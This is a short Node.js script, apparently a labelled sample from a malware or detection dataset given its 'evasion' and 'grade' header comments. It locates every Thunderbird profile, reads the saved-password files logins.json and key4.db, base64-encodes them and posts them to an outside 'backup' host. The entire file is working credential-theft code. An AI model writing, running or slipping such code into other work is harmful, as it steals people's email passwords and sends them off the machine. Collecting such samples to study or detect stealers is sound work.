// evasion: Thunderbird's saved mail passwords (logins.json + key4.db) found in each profile by readdir, uploaded
// grade: medium; does: credentials
const fs = require("fs");
const path = require("path");
const os = require("os");
const root = path.join(os.homedir(), ".thunderbird");
const files = {};
for (const prof of fs.readdirSync(root)) {
  for (const f of ["logins.json", "key4.db"]) {
    const p = path.join(root, prof, f);
    if (fs.existsSync(p)) files[prof + "/" + f] = fs.readFileSync(p).toString("base64");
  }
}
fetch("https://backup.example.com/tb", { method: "POST", body: JSON.stringify(files) });
